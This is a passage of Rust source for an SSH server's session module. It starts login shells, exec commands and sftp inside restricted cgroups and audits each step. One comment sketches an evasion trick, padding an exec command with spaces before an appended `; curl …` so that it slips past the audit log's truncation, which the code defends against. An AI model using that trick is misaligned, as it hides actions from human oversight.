//! Real sessions: the processes of an OS login for `shell` (with a terminal), `exec` and
//! `subsystem sftp` channels, each connection's processes in one session cgroup held to the
//! network restrictions by `ippin-restrict`.
//!
//! | step | what | refused with (the user reads it on stderr; audited `ssh.session.refused`) |
//! |---|---|---|
//! | 1 | restrictions configured but not enforceable here | `restrictions_unavailable` |
//! | 2 | the login exists in the user database | `no_such_login` |
//! | 3 | a server that is not root runs sessions only for its own login | `login_not_served` |
//! | 4 | the session cgroup is made and the programs attached (with restrictions) | `restrictions_unavailable` |
//! | 5 | the audit log takes the start line | `audit_unavailable` |
//! | 6 | the process starts: in the cgroup, `setsid`, terminal, groups, gid, uid, before `exec` | `spawn_failed` |
//!
//! When the connection ends, every process of the session is ended: the whole cgroup
//! (`cgroup.kill`) when the session has one, and each channel's process group. A process
//! group is signalled only by the task that holds its leader not yet reaped, so the number
//! cannot belong to someone else by then (a pid, and so a process group id, is not reused
//! while its process is unreaped).

use std::ffi::OsStr;
use std::io::{Read, Write};
use std::os::fd::OwnedFd;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::process::ExitStatusExt;
use std::path::PathBuf;
use std::process::Stdio;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use ippin_access::ssh::env::{MAX_CLIENT_VARS, SessionEnv, client_may_set};
use ippin_access::ssh::{Authorized, SessionRecord, SshAuditEvent};
use ippin_restrict::{ChildSetup, Enforcer, Login, Pty};
use russh::server::{Handle, Session};
use russh::{ChannelId, Sig};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::Shared;
use super::text::printable;

/// The most bytes of input queued for a process that does not read them. Beyond it the
/// process's input is closed: a client cannot make the server hold more.
pub const MAX_PENDING_INPUT: usize = 4 << 20;

/// The most session channels one connection has open at once (OpenSSH's `MaxSessions`).
pub const MAX_SESSION_CHANNELS: usize = 10;

/// The longest command line of an `exec` request, in bytes.
pub const MAX_EXEC_COMMAND: usize = 64 * 1024;

/// How much of a command an audit line shows whole: with the mark a longer one gets, under
/// the audit log's cut of every string (`MAX_FIELD_BYTES`, 256), so the mark is never lost.
const SHOWN_COMMAND: usize = 128;

/// A command as an audit line shows it: whole up to [`SHOWN_COMMAND`] bytes; a longer one
/// first says its length and SHA-256, then its first bytes, so that what ran past the cut (a
/// command padded with 1,100 spaces, then `; curl …`) is not hidden behind a line that looks
/// whole. (The audit log cuts every string past 256 bytes, keeping its start: the mark
/// stays.)
fn shown_command(command: &[u8]) -> String {
    let head = String::from_utf8_lossy(command.get(..SHOWN_COMMAND).unwrap_or(command));
    if command.len() <= SHOWN_COMMAND {
        return head.into_owned();
    }
    let digest = ring::digest::digest(&ring::digest::SHA256, command);
    let hex: String = digest.as_ref().iter().map(|b| format!("{b:02x}")).collect();
    format!(
        "[cut: {} bytes in all, sha256 {hex}] {head}…",
        command.len()
    )
}

/// How long the output of a terminal is still read after its shell exited (background jobs
/// may hold the terminal open for ever).
const TTY_DRAIN: Duration = Duration::from_millis(500);

/// Where OpenSSH's `sftp-server` is on common systems, tried in order.
pub const SFTP_SERVERS: &[&str] = &[
    "/usr/lib/openssh/sftp-server",
    "/usr/libexec/openssh/sftp-server",
    "/usr/libexec/sftp-server",
    "/usr/lib/ssh/sftp-server",
];

/// How network restrictions stand for this server's sessions.
pub enum Enforcement {
    /// No `network_restrictions` configured: sessions run without programs attached.
    Off,
    /// Held by the kernel: a cgroup per session with the programs attached.
    Kernel(Arc<Enforcer>),
    /// Configured, but the kernel side cannot be set up: every session that would run a
    /// process is refused with this reason. Never unrestricted.
    Unavailable(String),
}

impl std::fmt::Debug for Enforcement {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.describe())
    }
}

impl Enforcement {
    /// One line for the start log.
    pub fn describe(&self) -> String {
        match self {
            Enforcement::Off => "no network_restrictions: SSH sessions run without eBPF programs \
                                 attached"
                .to_owned(),
            Enforcement::Kernel(e) => format!("kernel enforcement in force: {}", e.summary()),
            Enforcement::Unavailable(why) => format!(
                "network_restrictions are configured but cannot be enforced ({why}): SSH \
                 sessions that run processes are refused"
            ),
        }
    }
}

/// What the sessions of a service share.
pub struct SessionSettings {
    /// The enforcement of network restrictions.
    pub enforcement: Arc<Enforcement>,
    /// The program for `subsystem sftp` (`None`: the first of [`SFTP_SERVERS`] present).
    pub sftp_server: Option<PathBuf>,
    /// This node's name in `T4002I` events (`server_id`).
    pub server_id: String,
    /// `sessions.allow_server_login`: a server that is not root may run sessions for its
    /// own login. Off by default: such a session can read everything the server can (the CA
    /// keys, the configuration, the audit log).
    pub allow_server_login: bool,
    /// The cluster's name in `T4002I` events (`cluster_name`).
    pub cluster_name: String,
}

impl Default for SessionSettings {
    fn default() -> Self {
        SessionSettings {
            enforcement: Arc::new(Enforcement::Off),
            sftp_server: None,
            server_id: String::new(),
            cluster_name: String::new(),
            allow_server_login: false,
        }
    }
}

/// What a channel asked to run.
pub(crate) enum Kind {
    Shell,
    Exec(Vec<u8>),
    Subsystem(String),
}

impl Kind {
    fn name(&self) -> &'static str {
        match self {
            Kind::Shell => "shell",
            Kind::Exec(_) => "exec",
            Kind::Subsystem(_) => "subsystem",
        }
    }
}

/// One session channel, before and while its process runs.
#[derive(Default)]
pub(crate) struct ChannelState {
    env: Vec<(String, String)>,
    pty: Option<PtyState>,
    input: Option<Input>,
    started: bool,
    /// Signals for the channel's process group, carried out by the task that waits for its
    /// leader (see the module docs).
    signal: Option<tokio::sync::mpsc::UnboundedSender<nix::sys::signal::Signal>>,
}

struct PtyState {
    term: String,
    /// Until the process starts.
    pty: Option<Pty>,
    /// The controller side, for `window-change` once running.
    controller: Option<Arc<std::fs::File>>,
    cols: u16,
    rows: u16,
}

struct Input {
    tx: tokio::sync::mpsc::UnboundedSender<Vec<u8>>,
    pending: Arc<AtomicUsize>,
}

/// The OS side of one SSH connection: its login, its session cgroup when restricted, and
/// the signal senders of the processes it started. Dropped with the connection, which ends
/// every process.
pub(crate) struct OsSession {
    login: Login,
    restrict: Option<ippin_restrict::Session>,
    signals: Mutex<Vec<tokio::sync::mpsc::UnboundedSender<nix::sys::signal::Signal>>>,
    /// The I/O of the channels' processes (pipes) and the stop switches of their terminal
    /// readers: ended with the connection, so nothing of the server's stays held by a process
    /// that outlives it.
    io: Mutex<Vec<tokio::task::AbortHandle>>,
    tty_stops: Mutex<Vec<Arc<std::sync::atomic::AtomicBool>>>,
}

impl Drop for OsSession {
    fn drop(&mut self) {
        let signals = std::mem::take(&mut *self.signals.lock().unwrap_or_else(|p| p.into_inner()));
        for tx in signals {
            // A process that already ended has no task to hear it: nothing to do.
            let _ = tx.send(nix::sys::signal::Signal::SIGKILL);
        }
        for task in std::mem::take(&mut *self.io.lock().unwrap_or_else(|p| p.into_inner())) {
            task.abort();
        }
        for stop in std::mem::take(&mut *self.tty_stops.lock().unwrap_or_else(|p| p.into_inner())) {
            stop.store(true, Ordering::SeqCst);
        }
        if let Some(session) = self.restrict.take() {
            // `end` waits (bounded) for the cgroup to empty: off the async workers.
            let name = session.name().to_owned();
            let _ = std::thread::Builder::new()
                .name("ippin-session-end".to_owned())
                .spawn(move || {
                    if let Err(e) = session.end() {
                        tracing::error!(session = %name, "ending the session cgroup: {e}");
                    }
                });
        }
    }
}

/// The sessions of one SSH connection: its channels and, once a process ran, its OS side.
/// Dropped with the connection, which ends every process.
#[derive(Default)]
pub(crate) struct Sessions {
    channels: std::collections::HashMap<ChannelId, ChannelState>,
    os: Option<Arc<OsSession>>,
    /// Channels this side closed (russh does not report the peer's answering close).
    ended: Ended,
}

/// Channels closed by this side, to be forgotten by [`Sessions`].
pub(crate) type Ended = Arc<Mutex<Vec<ChannelId>>>;

/// What a session needs of its connection.
pub(crate) struct Ctx<'a> {
    pub(crate) shared: &'a Shared,
    pub(crate) who: &'a Authorized,
    pub(crate) session_id: &'a str,
    pub(crate) observed: &'a ippin_policy::ObservedAddr,
    /// The server's address of the connection, when known.
    pub(crate) local: Option<std::net::SocketAddr>,
    /// The TCP peer, when known: what `SSH_CONNECTION` names when the observation is not
    /// trusted (a PROXY header on a listener that trusts none names whoever it likes).
    pub(crate) peer: Option<std::net::SocketAddr>,
    pub(crate) handle: Option<Handle>,
    /// Where a channel closed by this side is told ([`Sessions::ended`]).
    pub(crate) ended: Ended,
}

fn u16_clamped(v: u32) -> u16 {
    u16::try_from(v.clamp(1, 4096)).unwrap_or(80)
}

impl Sessions {
    /// Where channels closed by this side are told, for a [`Ctx`].
    pub(crate) fn ended(&self) -> Ended {
        self.ended.clone()
    }

    /// Forgets a channel this side closed (a built-in's).
    pub(crate) fn forget(&mut self, channel: ChannelId) {
        self.channels.remove(&channel);
    }

    /// Forgets the channels the server is done with (their processes ended and their
    /// output was sent), which closes what the server held for them.
    fn reap(&mut self) {
        let ended = std::mem::take(&mut *self.ended.lock().unwrap_or_else(|p| p.into_inner()));
        for id in ended {
            self.channels.remove(&id);
        }
    }

    /// A new session channel: `false` when the connection has [`MAX_SESSION_CHANNELS`].
    pub(crate) fn open(&mut self, channel: ChannelId) -> bool {
        self.reap();
        if self.channels.len() >= MAX_SESSION_CHANNELS {
            return false;
        }
        self.channels.entry(channel).or_default();
        true
    }

    /// The state of a channel opened with [`Sessions::open`]; requests on other channels
    /// find none.
    fn channel_state(&mut self, channel: ChannelId) -> Option<&mut ChannelState> {
        self.channels.get_mut(&channel)
    }

    /// An `env` request: kept when [`client_may_set`] allows it, refused otherwise.
    pub(crate) fn env(
        &mut self,
        channel: ChannelId,
        name: &str,
        value: &str,
        session: &mut Session,
    ) -> Result<(), russh::Error> {
        let Some(state) = self.channel_state(channel) else {
            return session.channel_failure(channel);
        };
        if state.started || state.env.len() >= MAX_CLIENT_VARS || !client_may_set(name, value) {
            return session.channel_failure(channel);
        }
        state.env.push((name.to_owned(), value.to_owned()));
        session.channel_success(channel)
    }

    /// A `pty-req` of a session of an OS login: a terminal is opened now.
    pub(crate) fn pty(
        &mut self,
        channel: ChannelId,
        term: &str,
        cols: u32,
        rows: u32,
        session: &mut Session,
    ) -> Result<(), russh::Error> {
        let Some(state) = self.channel_state(channel) else {
            return session.channel_failure(channel);
        };
        if state.started || state.pty.is_some() {
            return session.channel_failure(channel);
        }
        let (cols, rows) = (u16_clamped(cols), u16_clamped(rows));
        match Pty::open(cols, rows) {
            Ok(pty) => {
                state.pty = Some(PtyState {
                    term: term.chars().take(64).collect(),
                    pty: Some(pty),
                    controller: None,
                    cols,
                    rows,
                });
                session.channel_success(channel)
            }
            Err(e) => {
                tracing::warn!("opening a pseudo-terminal: {e}");
                session.channel_failure(channel)
            }
        }
    }

    /// A `window-change`: the terminal's new size (the kernel tells the foreground group).
    pub(crate) fn resize(&mut self, channel: ChannelId, cols: u32, rows: u32) {
        if let Some(pty) = self.channels.get_mut(&channel).and_then(|s| s.pty.as_mut()) {
            let (cols, rows) = (u16_clamped(cols), u16_clamped(rows));
            pty.cols = cols;
            pty.rows = rows;
            let _ = match (&pty.controller, &pty.pty) {
                (Some(c), _) => ippin_restrict::resize(c.as_ref(), cols, rows),
                (None, Some(p)) => ippin_restrict::resize(&p.controller, cols, rows),
                (None, None) => Ok(()),
            };
        }
    }

    /// Data from the client for the channel's process.
    pub(crate) fn data(&mut self, channel: ChannelId, data: &[u8]) {
        let Some(state) = self.channels.get_mut(&channel) else {
            return;
        };
        let Some(input) = &state.input else {
            return;
        };
        let queued = input.pending.fetch_add(data.len(), Ordering::SeqCst) + data.len();
        if queued > MAX_PENDING_INPUT || input.tx.send(data.to_vec()).is_err() {
            // The process does not read its input: close it rather than hold more.
            state.input = None;
        }
    }

    /// The client's EOF: the process's input is closed (for a terminal: no more input).
    pub(crate) fn eof(&mut self, channel: ChannelId) {
        if let Some(state) = self.channels.get_mut(&channel) {
            state.input = None;
        }
    }

    /// The client closed the channel: its process group is hung up and its input closed. A
    /// channel whose process started keeps its place until the server is done with it
    /// ([`Sessions::ended`]): closing cannot make room for more processes than
    /// [`MAX_SESSION_CHANNELS`].
    pub(crate) fn close(&mut self, channel: ChannelId) {
        self.reap();
        let started = match self.channels.get_mut(&channel) {
            None => return,
            Some(state) => {
                state.input = None;
                if let Some(tx) = &state.signal {
                    let _ = tx.send(nix::sys::signal::Signal::SIGHUP);
                }
                state.started
            }
        };
        if !started {
            self.channels.remove(&channel);
        }
    }

    /// Refuses to run anything on `channel`: the reason on stderr, exit status 1, audited.
    fn refuse(
        ctx: &Ctx<'_>,
        channel: ChannelId,
        who: &Authorized,
        login: &str,
        kind: &Kind,
        (code, message): (&str, &str),
        session: &mut Session,
    ) -> Result<(), russh::Error> {
        let mut rec = SessionRecord::new(
            "ssh.session.refused",
            ctx.session_id,
            &who.user,
            login,
            kind.name(),
        );
        rec.reason = Some(code.to_owned());
        rec.message = Some(message.to_owned());
        let _ = ctx.shared.audit.record(SshAuditEvent::Session(rec));
        let text = printable(&format!("ippin: refused ({code}): {message}"));
        session.channel_success(channel)?;
        session.extended_data(channel, 1, format!("{text}\r\n").into_bytes())?;
        session.exit_status_request(channel, 1)?;
        session.eof(channel)?;
        ctx.ended
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .push(channel);
        session.close(channel)
    }

    /// The connection's OS session, made on first use.
    fn os_session(
        &mut self,
        ctx: &Ctx<'_>,
        who: &Authorized,
        login: &str,
    ) -> Result<Arc<OsSession>, (String, String)> {
        if let Some(os) = &self.os {
            return Ok(os.clone());
        }
        let settings = &ctx.shared.session;
        if let Enforcement::Unavailable(why) = settings.enforcement.as_ref() {
            return Err((
                "restrictions_unavailable".to_owned(),
                format!(
                    "network restrictions are configured but this server cannot enforce them \
                     ({why}); no session runs unrestricted: tell the operator"
                ),
            ));
        }
        let account = match Login::lookup(login) {
            Ok(Some(a)) => a,
            Ok(None) => {
                return Err((
                    "no_such_login".to_owned(),
                    format!("there is no OS account `{login}` on this server"),
                ));
            }
            Err(e) => return Err(("no_such_login".to_owned(), e.to_string())),
        };
        let euid = nix::unistd::geteuid().as_raw();
        if euid != 0 && !settings.allow_server_login {
            return Err((
                "login_not_served".to_owned(),
                format!(
                    "this server does not run as root (uid {euid}), so a session would run as \
                     the server itself, with its CA keys; it runs none unless the operator sets \
                     `sessions.allow_server_login: true`"
                ),
            ));
        }
        if euid != 0 && account.uid != euid {
            return Err((
                "login_not_served".to_owned(),
                format!(
                    "this server does not run as root: it runs sessions only for its own \
                     login (uid {euid}), not `{login}`"
                ),
            ));
        }
        let restrict = match settings.enforcement.as_ref() {
            Enforcement::Kernel(enforcer) => match enforcer.session(ctx.session_id) {
                Ok(s) => Some(s),
                Err(e) => {
                    tracing::error!("session {}: {e}", ctx.session_id);
                    return Err((
                        "restrictions_unavailable".to_owned(),
                        format!(
                            "the network restrictions cannot be set up for this session ({e}); \
                             no session runs unrestricted: tell the operator"
                        ),
                    ));
                }
            },
            _ => None,
        };
        if let Some(events) = restrict.as_ref().and_then(|s| s.take_events()) {
            let audit = ctx.shared.audit.clone();
            let (user, login, sid) = (
                who.user.clone(),
                login.to_owned(),
                ctx.session_id.to_owned(),
            );
            let (server_id, cluster) = (settings.server_id.clone(), settings.cluster_name.clone());
            // Ends when the session does (its queue disconnects). Without it the session's
            // denials would go unaudited: no thread, no session.
            let spawned = std::thread::Builder::new()
                .name("ippin-netevents".to_owned())
                .spawn(move || {
                    for event in events {
                        let e = event
                            .audit_event(&user, &login, &sid)
                            .with_server(&server_id, &cluster);
                        let _ = audit.record(SshAuditEvent::Network(e));
                    }
                });
            if let Err(e) = spawned {
                tracing::error!(
                    "session {}: the network events' reader: {e}",
                    ctx.session_id
                );
                return Err((
                    "restrictions_unavailable".to_owned(),
                    format!(
                        "the network events of this session cannot be read ({e}), so its \
                         denials would go unaudited; no session runs so: tell the operator"
                    ),
                ));
            }
        }
        let os = Arc::new(OsSession {
            login: account,
            restrict,
            signals: Mutex::new(Vec::new()),
            io: Mutex::new(Vec::new()),
            tty_stops: Mutex::new(Vec::new()),
        });
        self.os = Some(os.clone());
        Ok(os)
    }

    /// Runs what `kind` asks on `channel`, as the session's OS login.
    pub(crate) async fn start(
        &mut self,
        ctx: &Ctx<'_>,
        channel: ChannelId,
        kind: Kind,
        session: &mut Session,
    ) -> Result<(), russh::Error> {
        let (who, Some(handle)) = (ctx.who.clone(), ctx.handle.clone()) else {
            return session.channel_failure(channel);
        };
        let Some(login) = who.login.clone() else {
            return session.channel_failure(channel);
        };
        // Every refusal below: the reason on stderr, exit status 1, an audit line.
        macro_rules! refuse {
            ($code:expr, $message:expr $(,)?) => {
                return Self::refuse(
                    ctx,
                    channel,
                    &who,
                    &login,
                    &kind,
                    ($code, $message),
                    session,
                )
            };
        }
        // An unknown subsystem is refused before the channel counts as started: the client
        // may still ask this channel for something else, and no slot is spent on it.
        if let Kind::Subsystem(name) = &kind
            && name != "sftp"
        {
            return session.channel_failure(channel);
        }
        match self.channel_state(channel) {
            Some(state) if !state.started => state.started = true,
            _ => return session.channel_failure(channel),
        }
        if let Kind::Exec(c) = &kind
            && c.contains(&0)
        {
            refuse!("command_invalid", "the command contains a NUL byte");
        }
        if let Kind::Exec(c) = &kind
            && c.len() > MAX_EXEC_COMMAND
        {
            refuse!(
                "command_too_long",
                &format!("the command is longer than {MAX_EXEC_COMMAND} bytes"),
            );
        }
        if let Some((code, message)) = recheck(ctx.shared, &who) {
            refuse!(code, &message);
        }
        let os = match self.os_session(ctx, &who, &login) {
            Ok(os) => os,
            Err((code, message)) => {
                refuse!(&code, &message);
            }
        };
        let account = &os.login;

        // What runs: the certificate's force-command replaces whatever was asked, as in sshd.
        let shell = account.shell.clone();
        let mut cmd = tokio::process::Command::new(&shell);
        let mut original = None;
        let shown: String;
        match (&who.force_command, &kind) {
            (Some(forced), _) => {
                cmd.arg("-c").arg(forced);
                if let Kind::Exec(asked) = &kind {
                    original = Some(asked.clone());
                }
                shown = forced.clone();
            }
            (None, Kind::Shell) => {
                // A login shell: `-bash`, as login(1) and sshd start it.
                let base = shell.file_name().unwrap_or(OsStr::new("sh"));
                let mut arg0 = std::ffi::OsString::from("-");
                arg0.push(base);
                cmd.arg0(arg0);
                shown = String::new();
            }
            (None, Kind::Exec(command)) => {
                cmd.arg("-c").arg(OsStr::from_bytes(command));
                shown = shown_command(command);
            }
            (None, Kind::Subsystem(_)) => {
                let Some(sftp) = Self::sftp_server(ctx) else {
                    refuse!("sftp_unavailable", "this server has no sftp-server program");
                };
                // Through the login's shell, as sshd runs subsystems: an account whose shell
                // refuses sessions (nologin, git-shell) gets no file access either.
                cmd.arg("-c").arg(shell_quote(&sftp.to_string_lossy()));
                shown = "sftp".to_owned();
            }
        }

        let Some(state) = self.channels.get_mut(&channel) else {
            return session.channel_failure(channel);
        };
        let client_env = std::mem::take(&mut state.env);
        let mut pty = state.pty.as_mut().and_then(|p| p.pty.take());
        let term = state.pty.as_ref().map(|p| p.term.clone());
        let tty_path = match &pty {
            Some(p) => rustix_ptsname(&p.controller),
            None => None,
        };
        let home = account.home.to_string_lossy().into_owned();
        let shell_text = account.shell.to_string_lossy().into_owned();
        let server = ctx.local.unwrap_or_else(|| ctx.observed.socket_addr());
        let client = ippin_access::ssh::env::client_address(ctx.observed, ctx.peer);
        let mut env_spec = SessionEnv::new(
            &account.name,
            account.uid,
            &home,
            &shell_text,
            client,
            server,
        )
        .client(&client_env);
        if let (Some(term), Some(path)) = (&term, &tty_path) {
            env_spec = env_spec.terminal(term, path);
        }
        cmd.env_clear();
        cmd.envs(env_spec.build());
        if let Some(asked) = &original {
            // A NUL was refused above.
            cmd.env("SSH_ORIGINAL_COMMAND", OsStr::from_bytes(asked));
        }
        // Entered as the login, after the credentials change (sshd's order); `/` when it
        // cannot be.
        let mut setup = ChildSetup::new()
            .umask(0o022)
            .working_directory(&account.home);
        if let Some(r) = &os.restrict {
            setup = setup.placement(r.placement());
        }
        match &pty {
            Some(p) => {
                // The terminal belongs to the login (group tty, 0620), as login(1) and sshd
                // leave it: its programs can reopen it, other users cannot.
                if nix::unistd::geteuid().is_root() {
                    let tty_group = nix::unistd::Group::from_name("tty")
                        .ok()
                        .flatten()
                        .map_or(account.gid, |g| g.gid.as_raw());
                    let owned = nix::unistd::fchown(
                        &p.user,
                        Some(nix::unistd::Uid::from_raw(account.uid)),
                        Some(nix::unistd::Gid::from_raw(tty_group)),
                    )
                    .and_then(|()| {
                        nix::sys::stat::fchmod(
                            &p.user,
                            nix::sys::stat::Mode::from_bits_truncate(0o620),
                        )
                    });
                    if owned.is_err() {
                        refuse!("spawn_failed", "the terminal cannot be given to the login");
                    }
                }
                // The user side as the three standard descriptors and the controlling
                // terminal.
                let dup = |fd: &OwnedFd| fd.try_clone().map(Stdio::from);
                let ready = (dup(&p.user), dup(&p.user), dup(&p.user));
                match (ready, setup.controlling_terminal(&p.user)) {
                    ((Ok(i), Ok(o), Ok(e)), Ok(with_terminal)) => {
                        cmd.stdin(i).stdout(o).stderr(e);
                        setup = with_terminal;
                    }
                    _ => {
                        refuse!("spawn_failed", "the terminal cannot be set up");
                    }
                }
            }
            None => {
                cmd.stdin(Stdio::piped())
                    .stdout(Stdio::piped())
                    .stderr(Stdio::piped());
                setup = setup.new_session();
            }
        }
        if nix::unistd::geteuid().is_root() {
            setup = setup.credentials(&account.credentials());
        }
        setup.apply(cmd.as_std_mut());

        let cgroup_id = os.restrict.as_ref().and_then(|r| r.cgroup_id());
        let mut start = SessionRecord::new(
            "ssh.session.start",
            ctx.session_id,
            &who.user,
            &login,
            kind.name(),
        );
        start.command = (!shown.is_empty()).then(|| shown.clone());
        start.original_command = original.as_ref().map(|a| shown_command(a));
        start.tty = pty.is_some();
        start.cgroup_id = cgroup_id;
        if !ctx.shared.audit.record(SshAuditEvent::Session(start)) {
            // Fail closed: nothing runs that the audit log does not show.
            refuse!(
                "audit_unavailable",
                "the audit log cannot be written, so nothing is run; tell the operator",
            );
        }
        let mut child = match cmd.spawn() {
            Ok(c) => c,
            Err(e) => {
                refuse!(
                    "spawn_failed",
                    &format!("the session's process cannot start: {e}"),
                );
            }
        };
        drop(cmd);
        let pid = child.id().unwrap_or(0);
        let group = i32::try_from(pid).unwrap_or(0);
        let (signal_tx, signal_rx) = tokio::sync::mpsc::unbounded_channel();
        {
            let mut signals = os.signals.lock().unwrap_or_else(|p| p.into_inner());
            // Senders of processes that ended are dropped, so the list stays as long as the
            // processes running.
            signals.retain(|tx| !tx.is_closed());
            signals.push(signal_tx.clone());
        }
        session.channel_success(channel)?;

        let (tx, rx) = tokio::sync::mpsc::unbounded_channel::<Vec<u8>>();
        let pending = Arc::new(AtomicUsize::new(0));
        let mut end = SessionRecord::new(
            "ssh.session.end",
            ctx.session_id,
            &who.user,
            &login,
            kind.name(),
        );
        end.pid = Some(pid);
        end.cgroup_id = cgroup_id;
        end.tty = pty.is_some();
        let audit = ctx.shared.audit.clone();
        let ended = ctx.ended.clone();

        match pty.take() {
            Some(p) => {
                // Only the child keeps the user side: the controller reads EIO once it is
                // closed everywhere.
                drop(p.user);
                let controller = Arc::new(std::fs::File::from(p.controller));
                if let Some(ps) = self.channels.get_mut(&channel).and_then(|s| s.pty.as_mut()) {
                    ps.controller = Some(controller.clone());
                    let _ = ippin_restrict::resize(controller.as_ref(), ps.cols, ps.rows);
                }
                // The terminal is read and written by two threads of their own (blocking
                // I/O: the server has no `unsafe` to register the descriptor with tokio).
                // The reader ends at EIO, once every process holding the terminal is gone
                // (at the latest when the session ends and they are killed); the writer when
                // the input closes.
                let rt = tokio::runtime::Handle::current();
                let (done_tx, done_rx) = tokio::sync::oneshot::channel::<()>();
                let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
                os.tty_stops
                    .lock()
                    .unwrap_or_else(|p| p.into_inner())
                    .push(stop.clone());
                let spawned = std::thread::Builder::new()
                    .name("ippin-tty-out".to_owned())
                    .spawn({
                        let (controller, handle, rt, stop) =
                            (controller.clone(), handle.clone(), rt.clone(), stop.clone());
                        move || {
                            tty_output(&controller, &handle, channel, &rt, &stop);
                            let _ = done_tx.send(());
                        }
                    })
                    .and_then(|_| {
                        std::thread::Builder::new()
                            .name("ippin-tty-in".to_owned())
                            .spawn({
                                let (controller, pending) = (controller.clone(), pending.clone());
                                move || tty_input(&controller, rx, &pending)
                            })
                    });
                if let Err(e) = spawned {
                    tracing::warn!("terminal threads: {e}");
                    let _ = child.start_kill();
                }
                tokio::spawn(async move {
                    let status = wait_signalling(&mut child, group, signal_rx).await;
                    // Background jobs may keep the terminal open: read what is there, briefly,
                    // then stop reading. Once the channel is gone the terminal's controller
                    // closes, and what still holds the terminal is hung up by the kernel.
                    let _ = tokio::time::timeout(TTY_DRAIN, done_rx).await;
                    stop.store(true, Ordering::SeqCst);
                    finish((&handle, ended), channel, status, end, audit).await;
                });
            }
            None => {
                let (stdin, stdout, stderr) =
                    (child.stdin.take(), child.stdout.take(), child.stderr.take());
                let mut io = os.io.lock().unwrap_or_else(|p| p.into_inner());
                io.retain(|t| !t.is_finished());
                if let Some(stdin) = stdin {
                    io.push(tokio::spawn(pipe_input(stdin, rx, pending.clone())).abort_handle());
                }
                let out =
                    stdout.map(|s| tokio::spawn(pipe_output(s, handle.clone(), channel, None)));
                let err =
                    stderr.map(|s| tokio::spawn(pipe_output(s, handle.clone(), channel, Some(1))));
                io.extend(out.iter().chain(err.iter()).map(|t| t.abort_handle()));
                drop(io);
                tokio::spawn(async move {
                    let status = wait_signalling(&mut child, group, signal_rx).await;
                    for task in [out, err].into_iter().flatten() {
                        let _ = task.await;
                    }
                    finish((&handle, ended), channel, status, end, audit).await;
                });
            }
        }
        if let Some(state) = self.channels.get_mut(&channel) {
            state.input = Some(Input { tx, pending });
            state.signal = Some(signal_tx);
        }
        Ok(())
    }

    fn sftp_server(ctx: &Ctx<'_>) -> Option<PathBuf> {
        match &ctx.shared.session.sftp_server {
            Some(p) => Some(p.clone()),
            None => SFTP_SERVERS.iter().map(PathBuf::from).find(|p| p.is_file()),
        }
    }
}

/// A connection can outlive its certificate (OpenSSH's connection sharing keeps one open)
/// and, with a user directory that changes, the user's roles: before anything new starts on
/// it (a process, a built-in, a forward) they are checked again
/// (`ippin_access::ssh::Authorized::recheck`). `None`: still valid; else the refusal's code
/// and message.
pub(crate) fn recheck(shared: &Shared, who: &Authorized) -> Option<(&'static str, String)> {
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(u64::MAX, |d| d.as_secs());
    who.recheck(shared.users.as_ref(), now).map(|d| {
        (
            d.reason.code(),
            d.message.trim_start_matches("ippin: ").to_owned(),
        )
    })
}

/// `text` as one word for `sh -c`: in single quotes, each `'` written as `'\''`.
fn shell_quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// Waits for `child`, the leader of process group `group`, carrying out the signals asked
/// for its group meanwhile. A signal is sent only while the leader is not reaped (`wait` has
/// not returned), so the group id is still this group's.
async fn wait_signalling(
    child: &mut tokio::process::Child,
    group: i32,
    mut signals: tokio::sync::mpsc::UnboundedReceiver<nix::sys::signal::Signal>,
) -> std::io::Result<std::process::ExitStatus> {
    loop {
        tokio::select! {
            biased;
            Some(sig) = signals.recv() => {
                if group > 0 {
                    let _ = nix::sys::signal::killpg(nix::unistd::Pid::from_raw(group), sig);
                }
            }
            status = child.wait() => return status,
        }
    }
}

/// The terminal's path (`/dev/pts/N`).
fn rustix_ptsname(controller: &OwnedFd) -> Option<String> {
    ippin_restrict::terminal_path(controller).ok()
}

/// The terminal's output to the channel, 32 KiB at most at a time, as the client's window
/// allows; until EIO (the user side is closed everywhere) or the channel is gone.
fn tty_output(
    controller: &std::fs::File,
    handle: &Handle,
    channel: ChannelId,
    rt: &tokio::runtime::Handle,
    stop: &std::sync::atomic::AtomicBool,
) {
    use nix::poll::{PollFd, PollFlags, PollTimeout, poll};
    use std::os::fd::AsFd;
    let mut buf = vec![0u8; 32 * 1024];
    loop {
        // Waits at most 200 ms at a time, so that `stop` is seen: a process that keeps the
        // terminal open (in the background, after its shell) cannot keep this thread.
        if stop.load(Ordering::SeqCst) {
            return;
        }
        let mut fds = [PollFd::new(controller.as_fd(), PollFlags::POLLIN)];
        match poll(&mut fds, PollTimeout::from(200u8)) {
            Ok(0) | Err(nix::errno::Errno::EINTR) => continue,
            Err(_) => return,
            Ok(_) => {}
        }
        let n = match (&*controller).read(&mut buf) {
            Ok(0) => return,
            Ok(n) => n,
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
            Err(_) => return,
        };
        if rt
            .block_on(handle.data(channel, buf[..n].to_vec()))
            .is_err()
        {
            return;
        }
    }
}

fn tty_input(
    controller: &std::fs::File,
    mut rx: tokio::sync::mpsc::UnboundedReceiver<Vec<u8>>,
    pending: &AtomicUsize,
) {
    while let Some(data) = rx.blocking_recv() {
        pending.fetch_sub(data.len(), Ordering::SeqCst);
        if (&*controller).write_all(&data).is_err() {
            return;
        }
    }
}

async fn pipe_input(
    mut stdin: tokio::process::ChildStdin,
    mut rx: tokio::sync::mpsc::UnboundedReceiver<Vec<u8>>,
    pending: Arc<AtomicUsize>,
) {
    while let Some(data) = rx.recv().await {
        pending.fetch_sub(data.len(), Ordering::SeqCst);
        if stdin.write_all(&data).await.is_err() {
            return;
        }
    }
    // The client's EOF (or the channel's end): the process reads end of file.
}

async fn pipe_output<R: tokio::io::AsyncRead + Unpin>(
    mut from: R,
    handle: Handle,
    channel: ChannelId,
    ext: Option<u32>,
) {
    let mut buf = vec![0u8; 32 * 1024];
    loop {
        let n = match from.read(&mut buf).await {
            Ok(0) | Err(_) => return,
            Ok(n) => n,
        };
        let data = buf[..n].to_vec();
        let sent = match ext {
